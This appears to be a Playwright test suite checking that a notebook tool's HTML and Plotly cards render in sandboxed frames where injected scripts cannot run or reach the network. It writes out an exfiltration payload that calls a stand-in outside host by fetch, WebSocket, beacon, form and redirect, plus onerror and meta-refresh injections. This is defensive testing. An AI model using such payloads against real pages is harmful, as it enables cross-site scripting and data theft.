"""Cards as pages: figures are drawn in a frame that runs nothing else, and nothing that stands in a card acts."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hostile.card_sinks import SINKS, figures
from hostile.outside import Outside, outside
from hostile.payloads import OUTSIDE, payloads, some
from hostile.touch import TOUCH
from lab import CHROMIUM, FLAGS
from playwright.sync_api import Browser, Error, Frame, Page, Playwright

from nbflow.cards import Plotly
from nbflow.cards.document import document, framed, standalone, wrapped
from nbflow.cards.html import Html

TEXTS = [each.text.encode("utf-8", "replace").decode() for each in payloads()]
FIGURE = {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 2]}], "layout": {"title": {"text": "Sales"}}}
#: everything by which a script may tell somebody something
TELL = f"""
    document.body.append("it ran");
    for (const tell of [
        () => fetch("{OUTSIDE}/fetch"),
        () => {{ new Image().src = "{OUTSIDE}/image"; }},
        () => navigator.sendBeacon("{OUTSIDE}/beacon", "x"),
        () => new WebSocket("{OUTSIDE.replace("http", "ws")}/socket"),
        () => new EventSource("{OUTSIDE}/events"),
        () => import("{OUTSIDE}/module"),
        () => new Worker("{OUTSIDE}/worker"),
        () => window.open("{OUTSIDE}/window"),
        () => {{ const form = document.createElement("form"); form.action = "{OUTSIDE}/form"; document.body.append(form); form.submit(); }},
        () => {{ const frame = document.createElement("iframe"); frame.src = "{OUTSIDE}/frame"; document.body.append(frame); }},
        () => {{ const style = document.createElement("style"); style.textContent = "@import '{OUTSIDE}/style'"; document.body.append(style); }},
        () => {{ top.location = "{OUTSIDE}/top"; }},
        () => {{ location.href = "{OUTSIDE}/itself"; }},
    ]) try {{ tell()?.catch?.(() => {{}}); }} catch (error) {{}}
"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Outside]:
    with outside() as machine:
        yield machine


@pytest.fixture(scope="module")
def chromium(playwright: Playwright, elsewhere: Outside) -> Iterator[Browser]:
    """A browser for which every other machine is the one that listens here."""
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*FLAGS, elsewhere.flag])
    yield browser
    browser.close()


class Watched:
    """A page, and what scripts on it did."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        # a script in a frame that may not reach the page around it fails when it tells on itself
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", lambda message: self.errors.append(message.text) if message.type == "error" else None)
        page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def show(self, html: str, *, touched: bool = True) -> None:
        self.page.set_content(f"<!doctype html><meta charset=utf-8><body>{html}", wait_until="load")
        self.page.wait_for_timeout(60)
        for frame in self.page.frames if touched else ():
            try:
                frame.evaluate(TOUCH)
            except Error:
                assert frame.is_detached() or frame.url != "about:blank"
        self.page.wait_for_timeout(80)

    def frame(self, number: int) -> Frame:
        """Return a frame of the page, which may come a moment after it."""
        self.wait_until(lambda: len(self.page.frames) > number)
        return self.page.frames[number]

    def wait_until(self, holds: Callable[[], object]) -> None:
        """Wait until `holds` says so, and let the page go on meanwhile."""
        deadline = time.monotonic() + 60
        while not holds():
            assert time.monotonic() < deadline
            self.page.wait_for_timeout(50)

    def ran(self) -> list[str]:
        """Return what scripts that were not asked for did."""
        acted = self.page.evaluate("window.acted ?? null")
        blocked = [each for each in self.errors if "Blocked a frame" in each or "SecurityError" in each]
        return [*([acted] if acted else []), *blocked, *self.dialogs]


@pytest.fixture
def watched(chromium: Browser, elsewhere: Outside) -> Iterator[Watched]:
    elsewhere.asked.clear()
    # as high as all that is shown: frames load when they are near
    page = chromium.new_page(viewport={"width": 900, "height": 24_000})
    yield Watched(page)
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_figure_is_drawn_in_its_frame(scheme: Any, chromium: Browser, elsewhere: Outside) -> None:
    elsewhere.asked.clear()
    page = chromium.new_page(color_scheme=scheme)
    seen = Watched(page)
    small = document(Plotly(FIGURE).html(), title="x", whole=False)
    seen.show(framed(small, height=500, scripts=True, title="x"), touched=False)
    frame = seen.frame(2)
    frame.wait_for_selector("[data-drawn] .main-svg .bars")
    assert "Sales" in frame.inner_text("body") and "bar, 2 points" not in frame.inner_text("body")
    colour = frame.evaluate("getComputedStyle(document.querySelector('.gtitle')).fill")
    assert (sum(map(int, colour.removeprefix("rgb(").removesuffix(")").split(","))) > 380) == (scheme == "dark")
    seen.show(framed(small, height=500, title="x"), touched=False)
    assert "bar, 2 points" in page.frames[1].inner_text("body")
    page.close()
    assert not seen.errors and not elsewhere.asked


def test_a_figure_is_drawn_in_a_tab(watched: Watched, tmp_path: Any) -> None:
    file = tmp_path / "card.html"
    file.write_text(standalone(document(Plotly(FIGURE).html(), title="x"), title="Sales", scripts=True))
    watched.page.goto(file.as_uri())
    watched.frame(2).wait_for_selector("[data-drawn] .main-svg .bars")
    assert watched.page.title() == "Sales"
    assert not watched.errors


@pytest.mark.parametrize("name", SINKS)
def test_nothing_in_a_card_acts(name: str, watched: Watched, elsewhere: Outside) -> None:
    chosen = some(TEXTS, list(SINKS).index(name))
    for first in range(0, len(chosen), 24):
        watched.show("".join("".join(SINKS[name](text)) for text in chosen[first : first + 24]))
        assert not watched.ran(), name
    assert not elsewhere.asked


@pytest.mark.parametrize("half", [0, 1])
def test_nothing_in_a_figure_acts(half: int, watched: Watched, elsewhere: Outside) -> None:
    texts = some(TEXTS[half::2], half)
    watched.show(framed(figures(texts), height=800, scripts=True, title="x"), touched=False)
    frame = watched.frame(2)
    # the page allows no script to be made of a text, which is how Playwright waits
    while frame.evaluate("document.querySelectorAll('[data-drawn] > div > .plot-container').length") < len(texts):
        watched.page.wait_for_timeout(200)
    frame.evaluate(TOUCH)
    watched.page.wait_for_timeout(300)
    assert not watched.ran() and not elsewhere.asked


def test_a_page_that_was_tampered_with_does_nothing_beside_its_figures(watched: Watched, elsewhere: Outside) -> None:
    refresh = f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'>"
    page = document(
        Html(f"{Plotly(FIGURE).html()}<script>{TELL}</script>{refresh}<img src=x onerror='{TELL}'>"), title="x"
    )
    open_policy = page.replace("default-src 'none'", "default-src *", 1)
    for each in (page, open_policy, f"<script>{TELL}</script>{refresh}"):
        watched.show(framed(each, height=500, scripts=True, title="x"), touched=False)
        watched.page.wait_for_timeout(700)
    assert not elsewhere.asked and not watched.ran()


def test_a_script_that_runs_in_a_frame_is_noticed(watched: Watched) -> None:
    watched.show(framed(wrapped(TEXTS[0], scripts=True), height=500, scripts=True, title="x"))
    watched.wait_until(watched.ran)


def test_scripts_that_a_person_asks_for_run_and_reach_nobody(
    watched: Watched, elsewhere: Outside, tmp_path: Any
) -> None:
    page = wrapped(f"<body>x<script>{TELL}</script>", scripts=True)
    watched.show(framed(page, height=500, scripts=True, title="x"), touched=False)
    watched.wait_until(
        lambda: (
            any("it ran" in each for each in _texts(watched.page))
            or watched.page.frames[-1].url.startswith("chrome-error")
        )
    )
    file = tmp_path / "card.html"
    file.write_text(standalone(page, title="x", scripts=True))
    watched.page.goto(file.as_uri())
    watched.page.wait_for_timeout(700)
    # a frame that may not go elsewhere gets as far as a connection, which says nothing
    assert not any(elsewhere.asked)
    assert watched.page.url == file.as_uri()


def _texts(page: Page) -> list[str]:
    return [frame.inner_text("body") for frame in page.frames if not frame.url.startswith("chrome-error")]
